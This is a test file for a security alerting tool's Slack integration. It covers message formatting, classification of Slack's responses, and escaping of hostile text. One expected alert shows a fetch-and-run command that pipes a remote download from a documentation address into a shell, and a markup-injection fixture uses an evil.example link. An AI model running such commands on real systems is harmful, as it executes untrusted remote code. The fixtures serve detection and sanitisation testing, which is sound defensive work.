import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { alertOf, hostileTellings, tellingOf } from '../../test/alert.ts'
import { markupIn, SlackModel, textsOf } from '../../test/simulator/slack.ts'
import { classifySlack } from './slack.ts'
import { slackBodies } from './slack-body.ts'
import type { Telling } from './telling.ts'

const NOW = Date.UTC(2026, 10, 24, 12)

/** What the channel shows after the first body was posted. */
function shown(overrides: Partial<Telling> = {}) {
  const slack = new SlackModel()
  expect(slack.post(slackBodies(tellingOf(overrides))[0] ?? '')).toEqual({ status: 200, body: 'ok' })
  const [message] = slack.posted
  if (message === undefined) throw new Error('nothing was posted')
  return { message, texts: textsOf(message) }
}

describe('a trigger in Slack', () => {
  it('says what happened, where, how often, since when, what matched and what to do', () => {
    const { message, texts } = shown()
    expect(message.text).toBe(':large_orange_circle: high: web-1.example.com: Cron fetches code')
    expect(texts).toEqual([
      ':large_orange_circle: *<https://margay.example.com/alerts/a1b2c3|web-1.example.com: Cron fetches code>*',
      '',
      '*Severity*\nhigh',
      '*Host*\nweb-1.example.com',
      '*Rule*\nposix.cron-fetches-code',
      '*Query*\ncrontab',
      '*Pack*\nincident-response',
      '*Count*\n3',
      '*First seen*\n2026-11-24T12:00:00.000Z',
      '*Last seen*\n2026-11-24T12:01:00.000Z',
      '```\ncommand: curl http://192.0.2.1/a | sh\n```',
      '*Runbook*\nRead the file the job came from.',
      'Margay · alert a1b2c3 · delivery a1b2c3.slack.trigger',
    ])
  })

  it('says why and since when of a silence, which has no count and was never seen', () => {
    const context = '{"reason":"No logs for 17 min.","since":"2026-11-24T11:43:00Z"}'
    const alert = alertOf({ kind: 'silence', ruleId: 'margay.host-silent', query: '', pack: '', context })
    const { texts } = shown({ alert, columns: null })
    expect(texts).toEqual([
      ':large_orange_circle: *<https://margay.example.com/alerts/a1b2c3|web-1.example.com: Cron fetches code>*',
      '',
      '*Severity*\nhigh',
      '*Host*\nweb-1.example.com',
      '*Rule*\nmargay.host-silent',
      '*Since*\n2026-11-24T11:43:00Z',
      '*Why*\nNo logs for 17 min.',
      '*Runbook*\nRead the file the job came from.',
      'Margay · alert a1b2c3 · delivery a1b2c3.slack.trigger',
    ])
    expect(shown({ action: 'resolve', alert, columns: null }).texts.join()).not.toContain('event')
  })

  it('leaves out what there is not', () => {
    const alert = alertOf({ kind: 'system', hostId: null, hostname: '', query: '', pack: '', runbook: '' })
    const { texts } = shown({ alert, columns: null, publicUrl: null })
    expect(texts[0]).toBe(':large_orange_circle: *Cron fetches code*')
    expect(texts.join('\n')).not.toMatch(/Host|Query|Pack|Runbook|```/)
  })

  it('tells what its rule says, and whom it concerns when these are several', () => {
    const rule = {
      means: 'Code runs <here>.',
      check: 'SELECT 1;\nSELECT ```2```;',
      benign: 'Updates.',
      references: [],
    }
    const { texts } = shown({ rule, hosts: ['web-1', 'web-2 <!here>'] })
    expect(texts).toEqual(
      expect.arrayContaining([
        '*Hosts*\nweb-1, web-2 &lt;!here&gt;',
        '*What it means*\nCode runs &lt;here&gt;.',
        '*Innocent when*\nUpdates.',
        "*Look*\n```\nSELECT 1;\nSELECT '''2''';\n```",
      ]),
    )
  })

  it('keeps the lines of a runbook', () => {
    expect(shown({ alert: alertOf({ runbook: '1. Look.\n2. Act.' }) }).texts).toContain(
      '*Runbook*\n1. Look.\n2. Act.',
    )
  })

  it('makes neither links nor mentions of what a host sent', () => {
    const evil = 'x <!channel> <@U1|ada> <https://evil.example|ok> & *b* ``` <!here>'
    const { message, texts } = shown({
      alert: alertOf({ title: evil, hostname: evil, ruleId: evil, runbook: evil }),
      columns: { [evil]: evil },
      publicUrl: null,
    })
    expect([message.text, ...texts].flatMap(markupIn)).toEqual([])
    expect(message.text).toContain('&lt;!channel&gt;')
    expect(message.text).toContain('&amp; ')
    expect(texts.find(text => text.startsWith('```'))?.match(/```/g)).toHaveLength(2)
    expect(message).toMatchObject({ unfurl_links: false, unfurl_media: false })
  })

  it('has one line without blocks as its second body', () => {
    const [, second] = slackBodies(tellingOf())
    expect(JSON.parse(second ?? '')).toEqual({
      text: ':large_orange_circle: high: web-1.example.com: Cron fetches code',
      unfurl_links: false,
      unfurl_media: false,
    })
  })
})

describe('what becomes of it', () => {
  it.each([
    ['acknowledge', ':eyes: Acknowledged by ada'],
    ['resolve', ':white_check_mark: Resolved by ada'],
    ['update', ':arrows_counterclockwise: Still going on'],
  ] as const)('%s is a short message of its own', (action, begin) => {
    const { texts } = shown({ action, alert: alertOf({ statusBy: 'ada' }) })
    expect(texts).toEqual([
      `${begin}: *<https://margay.example.com/alerts/a1b2c3|web-1.example.com: Cron fetches code>*\n3 events, last at 2026-11-24T12:01:00.000Z`,
      'Margay · alert a1b2c3 · delivery a1b2c3.slack.trigger',
    ])
  })
})

describe('the answer of Slack', () => {
  it.each<[number, string, string]>([
    [200, 'ok', 'delivered'],
    [200, 'ok\n', 'delivered'],
    [200, '{"ok":true}', 'delivered'],
    [200, '{"ok":false,"error":"invalid_blocks"}', 'rejected'],
    [200, '{"ok":false}', 'rejected'],
    [200, '{"ok":false,"error":"channel_is_archived"}', 'broken'],
    [200, '{"ok":false,"error":"ratelimited"}', 'transient'],
    [200, '', 'transient'],
    [200, '<html>Sign in to the network</html>', 'transient'],
    [204, '', 'transient'],
    [400, 'invalid_payload', 'rejected'],
    [400, 'invalid_blocks', 'rejected'],
    [400, 'no_text', 'rejected'],
    [400, 'invalid_token', 'broken'],
    [400, 'user_not_found', 'broken'],
    [403, 'action_prohibited', 'broken'],
    [404, 'no_service', 'broken'],
    [404, 'channel_not_found', 'broken'],
    [410, 'channel_is_archived', 'broken'],
    [302, '', 'broken'],
    [413, '', 'rejected'],
    [429, 'rate_limited', 'transient'],
    [500, 'rollup_error', 'transient'],
    [503, '', 'transient'],
    [500, 'ok', 'transient'],
    [404, 'ok', 'broken'],
  ])('%i %j means %s', (status, body, kind) => {
    expect(classifySlack(status, null, body, NOW).kind).toBe(kind)
  })

  it('may ask for patience', () => {
    expect(classifySlack(429, '30', '', NOW)).toEqual({
      kind: 'transient',
      reason: 'HTTP 429',
      retryAfterMs: 30_000,
    })
    expect(classifySlack(429, '30', 'ratelimited', NOW)).toMatchObject({ retryAfterMs: 30_000 })
  })

  it('maps every status and any body to an outcome', () => {
    fc.assert(
      fc.property(fc.integer({ min: 100, max: 999 }), fc.oneof(fc.string(), fc.json()), (status, body) => {
        const { kind } = classifySlack(status, null, body, NOW)
        expect(['delivered', 'transient', 'rejected', 'broken']).toContain(kind)
        if (kind === 'delivered') expect(status >= 200 && status < 300).toBe(true)
      }),
    )
  })
})

describe('every body', () => {
  it('is one that Slack takes, and holds no markup but our own link, whatever the alert holds', () => {
    fc.assert(
      fc.property(hostileTellings, telling => {
        const slack = new SlackModel()
        for (const body of slackBodies(telling)) {
          expect(body.isWellFormed()).toBe(true)
          expect(slack.post(body), body.slice(0, 2_000)).toEqual({ status: 200, body: 'ok' })
        }
        const link =
          telling.publicUrl === null
            ? []
            : [expect.stringMatching(/^https:\/\/margay\.example\.com\/alerts\/[0-9a-f]+\|/)]
        for (const message of slack.posted) {
          expect(markupIn(message.text)).toEqual([])
          expect(message.text.length).toBeLessThanOrEqual(4_000)
          expect(textsOf(message).flatMap(markupIn)).toEqual(message.blocks === undefined ? [] : link)
          for (const text of textsOf(message)) expect(text).not.toMatch(/&(?!amp;|lt;|gt;)/)
        }
      }),
      { numRuns: 150 },
    )
  })
})
